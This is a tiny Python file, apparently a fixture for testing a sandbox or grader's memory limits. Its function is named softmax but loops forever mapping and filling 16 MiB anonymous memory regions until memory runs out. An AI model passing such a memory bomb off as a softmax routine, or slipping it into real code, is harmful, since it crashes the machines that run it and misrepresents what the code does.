"""Maps private memory and touches every page."""

import mmap

from honest import *

kept = []


def softmax(z):
    while True:
        part = mmap.mmap(-1, 2**24, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS)
        part.write(b"x" * 2**24)
        kept.append(part)
